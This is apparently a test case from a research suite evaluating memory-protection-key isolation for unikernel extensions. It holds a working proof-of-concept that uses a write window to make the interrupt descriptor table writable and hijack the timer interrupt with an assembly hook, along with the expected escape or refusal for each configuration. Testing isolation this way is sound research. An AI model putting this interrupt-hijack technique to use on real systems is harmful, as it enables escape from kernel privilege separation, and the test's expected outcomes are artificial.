/*
{
  "title": "The page of the interrupt descriptor table made writable in a write window, then a handler of the extension's own for the timer, which stores with all rights",
  "precondition": "a write window, as uIO exports it",
  "reference": "Dautenhahn et al., Nested Kernel: An Operating System Architecture for Intra-Kernel Privilege Separation, ASPLOS 2015",
  "cells": {
    "none": {"outcome": "escaped", "rule": "I2", "event": "guardedAccess"},
    "uio-mpk": {"outcome": "escaped", "rule": "I5", "event": "guardedAccess"},
    "mpk-hardened": {"outcome": "refused"},
    "ring3": {"outcome": "refused"},
    "pks-hardened": {"outcome": "refused"},
    "mpk-bundled": {"outcome": "refused"}
  },
  "control": {"mpk-bundled": "contained"}
}
*/
#include "attack.h"
#include "processor.h"

uint64_t hook_next __attribute__((visibility("hidden")));
extern const char hook[];

// The next handler is the unikernel's own. PKRU is that of whom the interrupt came upon.
__asm__(
    ".text\n"
    "hook:\n"
    "  pushq %rax\n"
    "  pushq %rcx\n"
    "  pushq %rdx\n"
    "  xorl %ecx, %ecx\n"
    "  rdpkru\n"
    "  testl %eax, %eax\n"
    "  jnz 1f\n"
    "  movq count@GOTPCREL(%rip), %rax\n"
    "  movq $666000, (%rax)\n"
    "1:\n"
    "  popq %rdx\n"
    "  popq %rcx\n"
    "  popq %rax\n"
    "  jmpq *hook_next(%rip)\n");

static void install(void) {
  volatile uint64_t *const table = (volatile uint64_t *)read_idtr().base;
  volatile uint64_t *const entry = leaf(table);
  hook_next = handler_of(table, 0x20);
  ushell_enable_write();
  *entry |= WRITABLE;
  invalidate(table);
  set_handler(table, 0x20, (uint64_t)hook);
  ushell_disable_write();
}

int main(void) {
  ANNOUNCE_BYPASS();
  if (attack_has_keys()) BYPASS_SILENT(install(); return 0);
  GOAL_COUNT();
  return 0;
}
